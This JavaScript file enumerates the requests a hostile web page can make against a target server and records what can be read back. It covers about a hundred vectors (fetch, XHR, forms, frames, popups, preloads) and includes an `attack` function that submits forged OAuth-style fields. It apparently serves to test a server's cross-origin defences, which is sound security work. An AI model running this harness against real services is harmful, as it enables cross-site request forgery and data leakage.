// The requests that a hostile page can make from within itself.
//
// Each vector is a function of an address. It resolves once the browser has reported the end of the
// request, or after a time limit. What the page could read of a response goes into `reads`.
"use strict";

const LIMIT_MS = 5000;
const PARALLEL = 4;
const METHODS = ["GET", "HEAD", "POST", "PUT", "PATCH", "DELETE", "OPTIONS"];
const ENCTYPES = ["application/x-www-form-urlencoded", "multipart/form-data", "text/plain"];
const FIELDS = { client_id: "EVIL", client_secret: "evil", tenant_id: "evil", scopes: "classic" };

const reads = [];
const quietly = (work) => { try { return work(); } catch { return undefined; } };
const limited = (promise, ms = LIMIT_MS) =>
  Promise.race([promise, new Promise((end) => setTimeout(end, ms))]).catch(() => undefined);
const read = (vector, address, what, value) => {
  if (value) reads.push({ vector, address, what, value: String(value).slice(0, 2000) });
};

function added(element, parent = document.body) {
  parent.append(element);
  return element;
}

function made(tag, attributes = {}, inside = "") {
  const element = document.createElement(tag);
  for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
  element.innerHTML = inside;
  return element;
}

// ---------- requests of scripts

function byFetch(options) {
  return async (address, vector) => {
    const response = await limited(fetch(address, options));
    if (!response) return;
    read(vector, address, "type", response.type === "opaque" || response.type === "opaqueredirect" ? "" : response.type);
    read(vector, address, "status", response.status);
    read(vector, address, "body", await limited(response.text()));
  };
}

function byXhr(method, withCredentials) {
  return (address, vector) => limited(new Promise((end) => {
    const request = new XMLHttpRequest();
    request.open(method, address);
    request.withCredentials = withCredentials;
    request.onloadend = () => {
      read(vector, address, "status", request.status);
      read(vector, address, "body", request.responseText);
      end();
    };
    request.send(method === "POST" ? "a=b" : null);
  }));
}

function bySocket(address, vector) {
  return limited(new Promise((end) => {
    const socket = new WebSocket(address.replace(/^http/, "ws"));
    socket.onmessage = (event) => read(vector, address, "message", event.data);
    socket.onopen = () => { read(vector, address, "opened", true); end(); };
    socket.onclose = end;
  }));
}

function byEventSource(address, vector) {
  return limited(new Promise((end) => {
    const source = new EventSource(address, { withCredentials: true });
    source.onopen = () => { read(vector, address, "opened", true); source.close(); end(); };
    source.onerror = () => { source.close(); end(); };
  }));
}

function byWorker(kind) {
  const ways = {
    imported: (address) => `try { importScripts(${JSON.stringify(address)}); postMessage("loaded") } catch { postMessage("") }`,
    fetching: (address) => `fetch(${JSON.stringify(address)}).then((r) => r.text()).then(postMessage, () => postMessage(""))`,
  };
  return (address, vector) => limited(new Promise((end) => {
    const source = URL.createObjectURL(new Blob([ways[kind](address)], { type: "text/javascript" }));
    const worker = new Worker(source);
    worker.onmessage = (event) => { read(vector, address, "from a worker", event.data); worker.terminate(); end(); };
  }));
}

function bySharedWorker(address, vector) {
  return limited(new Promise((end) => {
    const text = `onconnect = (event) => fetch(${JSON.stringify(address)}).then((r) => r.text())
      .then((body) => event.ports[0].postMessage(body), () => event.ports[0].postMessage(""))`;
    const worker = new SharedWorker(URL.createObjectURL(new Blob([text], { type: "text/javascript" })));
    worker.port.onmessage = (event) => { read(vector, address, "from a shared worker", event.data); end(); };
  }));
}

// These two are refused by the browser, which compares the origins before it sends anything.
async function asWorkerScript(address, vector) {
  quietly(() => new Worker(address).onmessage = () => read(vector, address, "worker", true));
  quietly(() => new SharedWorker(address));
  const found = navigator.serviceWorker && await limited(navigator.serviceWorker.register(address), 500);
  read(vector, address, "registered", found);
}

// ---------- requests of elements

function byElement(tag, attribute, more = {}, inside = "") {
  return (address, vector) => {
    const element = made(tag, more, inside);
    const ended = new Promise((end) => {
      element.onerror = end;
      for (const name of ["load", "loadeddata", "loadedmetadata"]) {
        element.addEventListener(name, () => { read(vector, address, name, true); end(); });
      }
    });
    element.setAttribute(attribute, address);
    added(element, tag === "link" || tag === "script" ? document.head : document.body);
    return limited(ended, 1000).then(() => {
      if (tag === "link") read(vector, address, "rules", quietly(() => element.sheet.cssRules.length));
      if (tag === "img") read(vector, address, "width", element.naturalWidth);
    });
  };
}

// The end of these requests cannot be observed: the server's log shows them.
function bySilence(element) {
  return async (address, vector) => { await element(address, vector); };
}

function byStyle(rule) {
  return bySilence((address) => {
    const name = "x" + Math.random().toString(36).slice(2);
    added(made("style", {}, rule.replaceAll("URL", address).replaceAll("NAME", name)), document.head);
    added(made("p", { class: name }, "text"));
  });
}

function readFrame(vector, address, frame) {
  const inside = frame.contentWindow;
  const shown = quietly(() => inside.location.href);
  if (shown && shown !== "about:blank" && !shown.startsWith("about:srcdoc")) read(vector, address, "address", shown);
  read(vector, address, "text", shown !== "about:blank" && quietly(() => inside.document.body.innerText));
  read(vector, address, "frames", quietly(() => inside.length));
}

function byFrame(tag, attribute, more = {}) {
  return async (address, vector) => {
    const frame = made(tag, { ...more, [attribute]: address });
    const ended = new Promise((end) => { frame.onload = frame.onerror = end; });
    added(frame);
    await limited(ended);
    if (frame.contentWindow) readFrame(vector, address, frame);
    frame.remove();
  };
}

async function byFrameset(address, vector) {
  const outer = added(made("iframe", { srcdoc: `<frameset cols="*"><frame src="${address}"></frameset>` }));
  await limited(new Promise((end) => { outer.onload = end; }));
  readFrame(vector, address, { contentWindow: outer.contentWindow.frames[0] });
  outer.remove();
}

function byForm(method, enctype, from = document.body) {
  return async (address, vector) => {
    const name = "f" + Math.random().toString(36).slice(2);
    const frame = added(made("iframe", { name }));
    const form = added(made("form", { action: address, method, enctype, target: name }));
    const fields = method === "GET" ? Object.fromEntries(new URL(address).searchParams) : FIELDS;
    for (const [key, value] of Object.entries(fields)) added(made("input", { name: key, value }), form);
    const ended = new Promise((end) => { frame.onload = end; });
    form.submit();
    await limited(ended);
    readFrame(vector, address, frame);
    frame.remove();
  };
}

function bySpeculation(kind, more = {}) {
  return bySilence((address) => {
    const script = made("script", { type: "speculationrules" });
    script.textContent = JSON.stringify({ [kind]: [{ source: "list", urls: [address], eagerness: "immediate", ...more }] });
    added(script, document.head);
  });
}

const byLink = (rel, more = {}) => bySilence((address) => { added(made("link", { rel, ...more, href: address }), document.head); });

function byPing(address) {
  const link = added(made("a", { href: "#here", ping: address }, "x"));
  link.click();
  return Promise.resolve();
}

async function byPopup(address, vector, features = "") {
  const opened = window.open(address, "_blank", features);
  if (!opened) return;
  const away = () => {
    const shown = quietly(() => opened.location.href);
    return opened.closed || !shown || (shown !== "about:blank" && opened.document.readyState === "complete");
  };
  for (let tries = 0; tries < 100 && !away(); tries++) await limited(new Promise(() => {}), 20);
  read(vector, address, "text", quietly(() => opened.document.body.innerText));
  read(vector, address, "address", quietly(() => opened.location.href) === "about:blank" ? "" : quietly(() => opened.location.href));
  read(vector, address, "frames", quietly(() => opened.length));
  quietly(() => opened.postMessage("?", "*"));
  quietly(() => opened.close());
}

// ---------- the table

const VECTORS = {};
for (const method of METHODS) {
  const body = method === "GET" || method === "HEAD" ? {} : { body: new URLSearchParams(FIELDS) };
  for (const credentials of ["omit", "include"]) VECTORS[`fetch-cors-${method}-${credentials}`] = byFetch({ method, credentials, ...body });
}
for (const method of ["GET", "HEAD", "POST"]) VECTORS[`fetch-opaque-${method}`] = byFetch({ method, mode: "no-cors", credentials: "include" });
Object.assign(VECTORS, {
  "fetch-json": byFetch({ method: "POST", headers: { "Content-Type": "application/json" }, body: "{}" }),
  "fetch-authorization": byFetch({ headers: { Authorization: "Bearer x" } }),
  "fetch-accept-page": byFetch({ headers: { Accept: "text/html" } }),
  "fetch-accept-text": byFetch({ headers: { Accept: "text/plain" } }),
  "fetch-post-page": byFetch({ method: "POST", mode: "no-cors", headers: { Accept: "text/html" }, body: new URLSearchParams(FIELDS) }),
  "fetch-multipart": byFetch({ method: "POST", mode: "no-cors", body: new FormData() }),
  "fetch-text": byFetch({ method: "POST", mode: "no-cors", body: "client_id=EVIL" }),
  "fetch-no-referrer": byFetch({ mode: "no-cors", referrerPolicy: "no-referrer" }),
  "fetch-keepalive": byFetch({ method: "POST", mode: "no-cors", keepalive: true, body: "x" }),
  "fetch-manual": byFetch({ redirect: "manual" }),
  "fetch-loopback": byFetch({ targetAddressSpace: "loopback" }),
  "fetch-redirected": (address, vector) => byFetch({})("/redirect?status=302&to=" + encodeURIComponent(address), vector),
  "fetch-redirected-post": (address, vector) => byFetch({ method: "POST", mode: "no-cors", body: "x=y" })("/redirect?status=307&to=" + encodeURIComponent(address), vector),
  "xhr-get": byXhr("GET", false),
  "xhr-credentials": byXhr("GET", true),
  "xhr-post": byXhr("POST", true),
  "xhr-delete": byXhr("DELETE", false),
  "beacon": async (address) => { navigator.sendBeacon(address, new URLSearchParams(FIELDS)); },
  "beacon-empty": async (address) => { navigator.sendBeacon(address); },
  "websocket": bySocket,
  "eventsource": byEventSource,
  "worker-import": byWorker("imported"),
  "worker-fetch": byWorker("fetching"),
  "shared-worker": bySharedWorker,
  "worker-script": asWorkerScript,
  "import": async (address, vector) => read(vector, address, "module", await limited(import(address))),
  "img": byElement("img", "src"),
  "img-cors": byElement("img", "src", { crossorigin: "use-credentials" }),
  "img-no-referrer": byElement("img", "src", { referrerpolicy: "no-referrer" }),
  "img-srcset": byElement("img", "srcset"),
  "img-redirected": (address, vector) => byElement("img", "src")("/redirect?status=302&to=" + encodeURIComponent(address), vector),
  "input-image": byElement("input", "src", { type: "image" }),
  "script": byElement("script", "src"),
  "script-cors": byElement("script", "src", { crossorigin: "anonymous" }),
  "script-module": byElement("script", "src", { type: "module" }),
  "stylesheet": byElement("link", "href", { rel: "stylesheet" }),
  "video": byElement("video", "src", { preload: "auto" }),
  "video-poster": bySilence((address) => { added(made("video", { poster: address })); }),
  "audio": byElement("audio", "src", { preload: "auto" }),
  "track": bySilence((address) => {
    const video = added(made("video", { crossorigin: "anonymous" }));
    const track = added(made("track", { src: address, default: "" }), video);
    track.track.mode = "showing";
  }),
  "svg-image": bySilence((address) => { added(made("div", {}, `<svg><image href="${address}"/></svg>`)); }),
  "style-import": byStyle('@import "URL";'),
  "style-background": byStyle('.NAME { background-image: url("URL") }'),
  "style-font": byStyle('@font-face { font-family: NAME; src: url("URL") } .NAME { font-family: NAME }'),
  "style-mask": byStyle('.NAME { mask-image: url("URL") }'),
  "object": byFrame("object", "data"),
  "object-page": byFrame("object", "data", { type: "text/html" }),
  "embed": byFrame("embed", "src"),
  "iframe": byFrame("iframe", "src"),
  "iframe-sandbox": byFrame("iframe", "src", { sandbox: "allow-scripts" }),
  "iframe-credentialless": byFrame("iframe", "src", { credentialless: "" }),
  "iframe-no-referrer": byFrame("iframe", "src", { referrerpolicy: "no-referrer" }),
  "iframe-null-origin": bySilence((address) => {
    added(made("iframe", { sandbox: "allow-scripts", srcdoc: `<script>fetch("${address}", { method: "POST", mode: "no-cors" })</script>` }));
  }),
  "frame": byFrameset,
  "form-get": byForm("GET", ENCTYPES[0]),
  "form-post": byForm("POST", ENCTYPES[0]),
  "form-post-multipart": byForm("POST", ENCTYPES[1]),
  "form-post-text": byForm("POST", ENCTYPES[2]),
  "form-null-origin": bySilence((address) => {
    const frame = added(made("iframe", { sandbox: "allow-scripts allow-forms" }));
    frame.srcdoc = `<form method="post" action="${address}"><input name="client_id" value="EVIL"></form><script>document.forms[0].submit()</script>`;
  }),
  "ping": byPing,
  "link-prefetch": byLink("prefetch"),
  "link-preload-fetch": byLink("preload", { as: "fetch" }),
  "link-preload-image": byLink("preload", { as: "image" }),
  "link-preload-script": byLink("preload", { as: "script" }),
  "link-preload-style": byLink("preload", { as: "style" }),
  "link-preload-font": byLink("preload", { as: "font", crossorigin: "" }),
  "link-modulepreload": byLink("modulepreload"),
  "link-manifest": byLink("manifest"),
  "link-icon": byLink("icon"),
  "link-prerender": byLink("prerender"),
  "link-preconnect": byLink("preconnect"),
  "link-dns-prefetch": byLink("dns-prefetch"),
  "speculate-prefetch": bySpeculation("prefetch"),
  "speculate-prefetch-no-referrer": bySpeculation("prefetch", { referrer_policy: "no-referrer" }),
  "speculate-prefetch-anonymous": bySpeculation("prefetch", { requires: ["anonymous-client-ip-when-cross-origin"] }),
  "speculate-prerender": bySpeculation("prerender"),
  "popup": byPopup,
  "popup-no-opener": (address, vector) => byPopup(address, vector, "noopener"),
  "popup-no-referrer": (address, vector) => byPopup(address, vector, "noreferrer"),
  "popup-source": (address, vector) => byPopup("view-source:" + address, vector),
});

// ---------- running them

// The timings and sizes of responses that the browser lets a page see.
function readTimings(target) {
  for (const entry of performance.getEntriesByType("resource")) {
    if (!entry.name.startsWith(target)) continue;
    const { name, responseStatus, encodedBodySize, transferSize, contentType, serverTiming } = entry;
    const seen = [responseStatus, encodedBodySize, transferSize, contentType, serverTiming?.length].filter(Boolean);
    read("timings", name, "sizes", seen.join(" "));
  }
}

async function attack(target, paths, names) {
  performance.setResourceTimingBufferSize(100000);
  addEventListener("message", (event) => {
    if (event.origin === target) read("message", event.origin, "message", JSON.stringify(event.data));
  });
  const run = (vector) => Promise.all(paths.map((path) => {
    const address = `${target}${path}${path.includes("?") ? "&" : "?"}v=${vector}`;
    return limited(Promise.resolve().then(() => VECTORS[vector](address, vector)), 2 * LIMIT_MS);
  }));
  const left = [...names];
  const next = async () => { while (left.length) await run(left.shift()); };
  await Promise.all(Array.from({ length: PARALLEL }, next));
  readTimings(target);
  return reads;
}
